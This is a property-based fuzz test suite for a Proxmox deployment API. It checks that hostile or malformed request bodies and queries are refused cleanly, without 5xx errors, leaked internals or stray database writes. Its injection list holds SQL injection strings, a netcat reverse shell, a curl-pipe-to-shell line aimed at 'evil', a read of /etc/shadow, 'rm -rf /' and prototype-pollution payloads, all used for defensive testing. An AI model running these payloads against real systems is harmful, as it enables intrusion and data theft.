import { EntityManager } from '@mikro-orm/postgresql';
import fc from 'fast-check';
import type { Response } from 'supertest';
import { SimulatorFixture } from '../pve-simulator/testing/simulator-fixture';
import { discoverRoutes, type ApiRoutes, type Route, type Schema } from '../support/api-routes';
import { registerDeployHost } from '../support/hosts';
import { startFreshApp, type TestApp } from '../support/test-app';
import { bearer, loginAdmin, type Session } from '../support/users';

/**
 * Property-based fuzzing of every request body and query the OpenAPI document
 * describes: a new route or field is fuzzed without editing this file. A
 * rejected request must answer in the error envelope, never 5xx, and leave no
 * trace in the database or on Proxmox. FUZZ_RUNS raises the runs per route
 * (30 by default) and FUZZ_SEED changes the fixed seed for a longer local hunt.
 */

const RUNS = Number(process.env.FUZZ_RUNS ?? 30);
const SEED = Number(process.env.FUZZ_SEED ?? 1313);
const MAX_NESTING = 32;

/** JSON text spliced in as is, for what JSON.stringify cannot say (1e999, -0, 30 digits). */
class Raw {
  constructor(readonly text: string) {}
}

type Body = Record<string, unknown>;

/** Every UTF-8 byte escaped: encodeURIComponent throws on a lone surrogate. */
function percentEncoded(text: string): string {
  return [...Buffer.from(text)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
}

/** An object whose `__proto__` and `constructor` keys are plain own keys, as JSON.parse makes them. */
function plain(entries: [string, unknown][]): Body {
  const obj = Object.create(null) as Body;
  for (const [key, value] of entries) obj[key] = value;
  return obj;
}

function toJson(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`;
  if (value !== null && typeof value === 'object')
    return `{${Object.entries(value)
      .map(([k, v]) => `${JSON.stringify(k)}:${toJson(v)}`)
      .join(',')}}`;
  return JSON.stringify(value) ?? 'null';
}

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '1; SELECT pg_sleep(30)--',
  "%' OR 1=1 --",
  '$(reboot)',
  '`id`',
  '; rm -rf / #',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '&& curl http://evil | sh',
  '${IFS}cat${IFS}/etc/shadow',
  '\n/bin/sh -i',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '\u202e\u0041',
  '\ud800',
  'ＡＤＭＩＮ',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '',
  ' ',
];

const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.integer({ min: 1_000, max: 100_000 }).map((n) => 'é'.repeat(n)),
);

const boundaryNumber: fc.Arbitrary<number | Raw> = fc.oneof(
  fc.constantFrom(
    0,
    -1,
    1,
    0.5,
    65_535,
    65_536,
    2 ** 31 - 1,
    2 ** 31,
    -(2 ** 31) - 1,
    2 ** 53,
    Number.MAX_VALUE,
    Number.MIN_VALUE,
    -Number.MAX_VALUE,
  ),
  fc
    .constantFrom('1e999', '-1e999', '-0', '1.0', '123456789012345678901234567890', '1e-400')
    .map((text) => new Raw(text)),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const deepNesting: fc.Arbitrary<Raw> = fc
  .integer({ min: 2, max: MAX_NESTING - 4 })
  .chain((depth) =>
    fc.constantFrom(
      new Raw(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
      new Raw(`${'['.repeat(depth)}${']'.repeat(depth)}`),
    ),
  );

const prototypeObject: fc.Arbitrary<Body> = fc
  .tuple(
    fc.constantFrom('__proto__', 'constructor', 'prototype'),
    fc.oneof(
      fc.constant(plain([['isAdmin', true]])),
      fc.constant(plain([['prototype', plain([['role', 'admin']])]])),
      hostileString,
    ),
  )
  .map(([key, value]) => plain([[key, value]]));

const scalar = fc.oneof(hostileString, boundaryNumber, fc.boolean());

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  scalar,
  fc.constant(null),
  fc.array(scalar, { maxLength: 4 }),
  prototypeObject,
  deepNesting,
  fc.jsonValue({ maxDepth: 3 }),
);

/** What a field of each schema type never accepts. */
function wrongTypeFor(schema: Schema): fc.Arbitrary<unknown> {
  const objects = fc.oneof(prototypeObject, deepNesting);
  const arrays = fc.array(scalar, { maxLength: 3 });
  switch (schema.type) {
    case 'string':
      if (schema.enum) return hostileString.filter((s) => !(schema.enum ?? []).includes(s));
      return fc.oneof(boundaryNumber, fc.boolean(), arrays, objects);
    case 'integer':
    case 'number':
      return fc.oneof(
        hostileString,
        fc.boolean(),
        arrays,
        objects,
        fc.constantFrom('1e999', '-1e999').map((text) => new Raw(text)),
      );
    case 'boolean':
      return fc.oneof(hostileString, boundaryNumber, arrays, objects);
    case 'array':
      return fc.oneof(hostileString, boundaryNumber, fc.boolean(), prototypeObject);
    default:
      return fc.oneof(hostileString, boundaryNumber, fc.boolean(), arrays);
  }
}

describe('fuzzed request bodies and queries', () => {
  let t: TestApp;
  let sim: SimulatorFixture;
  let admin: Session;
  let routes: ApiRoutes;

  beforeAll(async () => {
    // No worker: its periodic passes call Proxmox on their own and would blur the call count.
    t = await startFreshApp({ PROXIMITY_ROLE: 'api' });
    sim = await SimulatorFixture.start();
    admin = await loginAdmin(t);
    await registerDeployHost(t, admin, sim.sim, 'pve-fuzz', 750_000, [32_750, 32_799]);
    routes = await discoverRoutes(t);
  });
  afterAll(async () => {
    await t?.close();
    await sim?.close();
  });

  /** A value the schema accepts, or close to it. */
  function validish(raw: Schema, depth = 0): fc.Arbitrary<unknown> {
    const schema = routes.resolve(raw);
    if (schema.enum) return fc.constantFrom(...schema.enum);
    switch (schema.type) {
      case 'string':
        if (schema.format === 'uuid') return fc.uuid();
        return fc.string({
          minLength: schema.minLength ?? 0,
          maxLength: Math.min(schema.maxLength ?? 30, 30),
        });
      case 'integer':
      case 'number':
        return fc.integer({ min: schema.minimum ?? 0, max: schema.maximum ?? 100_000 });
      case 'boolean':
        return fc.boolean();
      case 'array':
        return fc.array(schema.items ? validish(schema.items, depth + 1) : fc.string(), {
          maxLength: 3,
        });
      default:
        return depth > 4 ? fc.constant(plain([])) : objectOf(schema, depth);
    }
  }

  function objectOf(schema: Schema, depth: number): fc.Arbitrary<Body> {
    const { additionalProperties } = schema;
    if (!schema.properties && typeof additionalProperties === 'object')
      return fc
        .dictionary(
          fc.string({ minLength: 1, maxLength: 12 }),
          validish(additionalProperties, depth + 1),
          {
            maxKeys: 3,
          },
        )
        .map((d) => plain(Object.entries(d)));
    const props = Object.entries(schema.properties ?? {});
    const required = new Set(schema.required ?? []);
    return fc
      .tuple(
        ...props.map(([name, prop]) =>
          required.has(name)
            ? validish(prop, depth + 1).map((v): [string, unknown][] => [[name, v]])
            : fc
                .option(validish(prop, depth + 1), { nil: undefined })
                .map((v): [string, unknown][] => (v === undefined ? [] : [[name, v]])),
        ),
      )
      .map((entries) => plain(entries.flat()));
  }

  /** Every field of a schema as a path, with its schema and whether it is required. */
  function fields(
    raw: Schema,
    prefix: string[] = [],
  ): { path: string[]; schema: Schema; required: boolean }[] {
    const schema = routes.resolve(raw);
    return Object.entries(schema.properties ?? {}).flatMap(([name, prop]) => {
      const resolved = routes.resolve(prop);
      const path = [...prefix, name];
      const own = { path, schema: resolved, required: (schema.required ?? []).includes(name) };
      return resolved.properties ? [own, ...fields(resolved, path)] : [own];
    });
  }

  /** `body` with `value` at `path`, the objects on the way made if missing. */
  function setAt(body: Body, path: string[], value: unknown): Body {
    const [head, ...rest] = path;
    const inner = body[head];
    const child =
      inner !== null && typeof inner === 'object' && !Array.isArray(inner)
        ? (inner as Body)
        : plain([]);
    return plain([
      ...Object.entries(body).filter(([k]) => k !== head),
      [head, rest.length === 0 ? value : setAt(child, rest, value)],
    ]);
  }

  function withoutAt(body: Body, path: string[]): Body {
    const [head, ...rest] = path;
    const inner = body[head];
    if (rest.length === 0) return plain(Object.entries(body).filter(([k]) => k !== head));
    if (inner === null || typeof inner !== 'object' || Array.isArray(inner)) return body;
    return setAt(body, [head], withoutAt(inner as Body, rest));
  }

  /** A body the route must refuse: valid-ish, then broken in one way a validator must notice. */
  function invalidBody(schema: Schema): fc.Arbitrary<Body> {
    const all = fields(schema);
    const known = new Set(all.map((f) => f.path[0]));
    const mutations: fc.Arbitrary<(b: Body) => Body>[] = [
      fc
        .tuple(
          fc.oneof(
            fc.constantFrom(
              'prototype',
              ...Object.getOwnPropertyNames(Object.prototype),
              'isAdmin',
              'role',
              "x' OR 1=1",
            ),
            fc.string({ minLength: 1, maxLength: 12 }),
          ),
          hostileValue,
        )
        .filter(([key]) => !known.has(key))
        .map(
          ([key, value]) =>
            (b: Body) =>
              plain([...Object.entries(b), [key, value]]),
        ),
    ];
    if (all.length > 0)
      mutations.push(
        fc
          .constantFrom(...all)
          .chain((f) => wrongTypeFor(f.schema).map((v) => (b: Body) => setAt(b, f.path, v))),
      );
    const required = all.filter((f) => f.required && f.path.length === 1);
    if (required.length > 0)
      mutations.push(fc.constantFrom(...required).map((f) => (b: Body) => withoutAt(b, f.path)));
    return fc
      .tuple(objectOf(schema, 0), fc.oneof(...mutations))
      .map(([body, mutate]) => mutate(body));
  }

  /** Every table's row count, one query. */
  async function rowCounts(): Promise<Record<string, number>> {
    const conn = t.app.get(EntityManager).getConnection();
    const tables = (
      await conn.execute<{ table_name: string }[]>(
        `select table_name from information_schema.tables
        where table_schema = 'public' and table_type = 'BASE TABLE' order by table_name`,
      )
    ).map((r) => r.table_name);
    const union = tables
      .map((name) => `select '${name}' as name, count(*)::int as rows from "${name}"`)
      .join(' union all ');
    const rows = await conn.execute<{ name: string; rows: number }[]>(union);
    return Object.fromEntries(rows.map((r) => [r.name, r.rows]));
  }

  async function footprint(): Promise<{ rows: Record<string, number>; proxmoxCalls: number }> {
    return { rows: await rowCounts(), proxmoxCalls: (await sim.state()).calls };
  }

  function send(route: Route, body: Body) {
    return t
      .http()
      [route.method](route.path)
      .set(bearer(admin))
      .set('Content-Type', 'application/json')
      .send(toJson(body));
  }

  /** The envelope of docs/api.md, without a trace of internals. */
  function envelopeOf(res: Response) {
    const body = res.body as Record<string, unknown>;
    return {
      statusCode: body.statusCode,
      error: typeof body.error,
      message: typeof body.message,
      requestId: body.requestId === res.headers['x-request-id'],
      details: res.status === 400 ? Array.isArray(body.details) : 'n/a',
      leaks: /\bat .+:\d+:\d+|\.[jt]s:\d|\bselect\b.+\bfrom\b|\binsert into\b|node_modules/i.test(
        JSON.stringify(body),
      ),
    };
  }

  function expectedEnvelope(status: number) {
    return {
      statusCode: status,
      error: 'string',
      message: 'string',
      requestId: true,
      details: status === 400 ? true : 'n/a',
      leaks: false,
    };
  }

  /** A valid-ish body whose strings and numbers are hostile but of the right JSON type. */
  function hostileBody(schema: Schema): fc.Arbitrary<Body> {
    const leaves = fields(schema).filter((f) => !f.schema.properties && !f.schema.enum);
    const replace = (f: (typeof leaves)[number]): fc.Arbitrary<unknown> | null => {
      if (f.schema.type === 'string') return hostileString;
      if (f.schema.type === 'number' || f.schema.type === 'integer') return boundaryNumber;
      if (f.schema.type === 'array') return fc.array(hostileString, { maxLength: 3 });
      return null;
    };
    const targets = leaves.filter((f) => replace(f) !== null);
    if (targets.length === 0) return objectOf(schema, 0);
    return fc
      .tuple(
        objectOf(schema, 0),
        fc
          .subarray(targets, { minLength: 1 })
          .chain((chosen) =>
            fc.tuple(
              ...chosen.map((f) => replace(f)!.map((v): [string[], unknown] => [f.path, v])),
            ),
          ),
      )
      .map(([body, values]) => values.reduce((b, [path, v]) => setAt(b, path, v), body));
  }

  /** A query string over a route's own parameters and some it does not know, values hostile. */
  function hostileQuery(route: Route): fc.Arbitrary<string> {
    const names = (route.op.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name);
    const value = fc.oneof(
      // Node answers a head over 16 KiB itself (431, no body): keep the query under that.
      hostileString.map((s) => s.slice(0, 300)),
      boundaryNumber.map((n) => (n instanceof Raw ? n.text : String(n))),
    );
    const key = fc.oneof(
      fc.constantFrom(...names),
      fc
        .constantFrom(...names)
        .chain((n) => fc.constantFrom(`${n}[]`, `${n}[a]`, `${n}[__proto__]`)),
      fc.constantFrom(
        '__proto__[isAdmin]',
        'constructor[prototype][isAdmin]',
        '__proto__',
        'unknown',
      ),
    );
    return fc
      .array(fc.tuple(key, value), { minLength: 1, maxLength: 5 })
      .map((pairs) => pairs.map(([k, v]) => `${encodeURI(k)}=${percentEncoded(v)}`).join('&'));
  }

  it('finds the routes with a body in the OpenAPI document', () => {
    expect(routes.withBody.length).toBeGreaterThanOrEqual(15);
  });

  it('refuses an invalid body on every route with 400 (413 if too large) in the envelope, leaving no trace', async () => {
    for (const route of routes.withBody) {
      const schema = routes.bodySchema(route);
      await fc.assert(
        fc.asyncProperty(invalidBody(schema), async (body) => {
          const before = await footprint();
          const res = await send(route, body);
          // A huge string can pass the body size limit before any field is read: 413.
          const status = res.status === 413 ? 413 : 400;
          expect({
            route: `${route.method} ${route.path}`,
            status: res.status,
            envelope: envelopeOf(res),
          }).toEqual({
            route: `${route.method} ${route.path}`,
            status,
            envelope: expectedEnvelope(status),
          });
          expect(await footprint()).toEqual(before);
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: true },
      );
    }
  });

  it('answers hostile values of the right type on every route without a 5xx, refusals in the envelope leaving no trace', async () => {
    const statuses = new Map<number, number>();
    for (const route of routes.withBody) {
      const schema = routes.bodySchema(route);
      await fc.assert(
        fc.asyncProperty(hostileBody(schema), async (body) => {
          const before = await footprint();
          const res = await send(route, body);
          statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
          const where = `${route.method} ${route.path}`;
          expect({ where, serverError: res.status >= 500 }).toEqual({ where, serverError: false });
          if (res.status < 400) return;
          expect({ where, envelope: envelopeOf(res) }).toEqual({
            where,
            envelope: expectedEnvelope(res.status),
          });
          // A refusal past validation (a failed login, a wrong current password) is audited by
          // design: at most that one row; the first property holds validation refusals to none.
          const after = await footprint();
          expect({
            where,
            ...after,
            rows: { ...after.rows, audit_entry: before.rows.audit_entry },
          }).toEqual({ where, ...before });
          expect(after.rows.audit_entry - before.rows.audit_entry).toBeLessThanOrEqual(1);
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: true },
      );
    }
    // Most of these are refused, but not all: the generator must also reach past validation.
    expect([...statuses.keys()].some((s) => s < 400)).toBe(true);
  });

  it('answers hostile queries on every route that takes one without a 5xx, refusals leaving no trace', async () => {
    const withQuery = routes.all.filter((r) =>
      (r.op.parameters ?? []).some((p) => p.in === 'query'),
    );
    expect(withQuery.length).toBeGreaterThanOrEqual(10);
    for (const route of withQuery) {
      await fc.assert(
        fc.asyncProperty(hostileQuery(route), async (query) => {
          const before = await footprint();
          const res = await t.http()[route.method](`${route.path}?${query}`).set(bearer(admin));
          const where = `${route.method} ${route.path}?${query}`;
          expect({ where, serverError: res.status >= 500 }).toEqual({ where, serverError: false });
          if (res.status >= 400)
            expect({ where, envelope: envelopeOf(res) }).toEqual({
              where,
              envelope: expectedEnvelope(res.status),
            });
          // An accepted query may read Proxmox (nodes, discovery); none may write a row.
          const after = await footprint();
          const calls = res.status < 400 ? before.proxmoxCalls : after.proxmoxCalls;
          expect({ where, ...after, proxmoxCalls: calls }).toEqual({ where, ...before });
        }),
        { numRuns: RUNS, seed: SEED, endOnFailure: true },
      );
    }
  });
});
